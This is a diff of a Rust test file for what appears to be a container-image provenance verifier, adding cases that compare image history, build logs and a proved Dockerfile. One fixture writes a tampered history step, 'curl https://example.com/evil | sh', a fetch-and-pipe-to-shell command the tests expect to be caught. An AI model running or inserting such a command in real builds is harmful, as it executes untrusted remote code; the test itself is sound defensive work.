@@ -559,11 +559,12 @@ fn judged() -> Vec<Case> {
         image.config["config"]["Labels"] = json!({"org.opencontainers.image.revision": value});
         image
     };
-    let retold = || {
+    let with_step = |step: &str| {
         let mut image = Image::wallet();
-        image.config["history"][4]["created_by"] = json!("/bin/sh -c curl https://example.com/evil | sh");
+        image.config["history"][4]["created_by"] = json!(step);
         image
     };
+    let retold = || with_step("/bin/sh -c curl https://example.com/evil | sh");
     let case =
         |name: &str, about, image: &Image| Case::good(name, about).image(image).hand_over(LAYOUT, &image.layout());
     let insists = |check: &str| format!("[levels]\n{check} = \"require\"\n");
@@ -606,6 +607,35 @@ fn judged() -> Vec<Case> {
         .image(&retold())
         .hand_over(LAYOUT, &retold().layout())
         .image_policy(&insists("image-history")),
+        case(
+            "image-history-not-the-dockerfile",
+            "Log and history agree on a step that the proved Dockerfile does not have, which is a warning.",
+            &with_step("/bin/sh -c #(nop)  USER nobody"),
+        )
+        .log(|text| text.replace("EXPOSE 8443", "USER nobody"))
+        .expect("source-dockerfile", "fail")
+        .expect("image-history", "fail"),
+        case(
+            "image-history-log-only",
+            "No Dockerfile of the policy's name is proved: the history is compared with the log, and says so.",
+            &Image::wallet(),
+        )
+        .image_policy("[expect]\ndockerfile = \"docker/Dockerfile\"\n")
+        .expect("source-dockerfile", "fail")
+        .expect("image-history", "pass"),
+        case(
+            "image-history-dockerfile-only",
+            "The log shows no steps: the history is compared with the proved Dockerfile.",
+            &Image::wallet(),
+        )
+        .log(|text| super::without(&text, &["run: Step "]))
+        .expect("image-history", "pass"),
+        Case::rejected("image-label-not-proved", "The label names HEAD's commit, which is not among the objects.")
+            .image(&Image::wallet())
+            .hand_over(LAYOUT, &Image::wallet().layout())
+            .inner(|entries| super::source::remove(entries, &inputs::head_commit()))
+            .expect("source-objects", "fail")
+            .expect("image-labels", "unknown"),
         Case::rejected("image-required-and-missing", "The policy requires the group image, and there is no image.")
             .file("key.pem", Named::Server.public_pem())
             .policy(super::policy::with("").replace("[\"manifest\"]", "[\"manifest\", \"image\"]"))
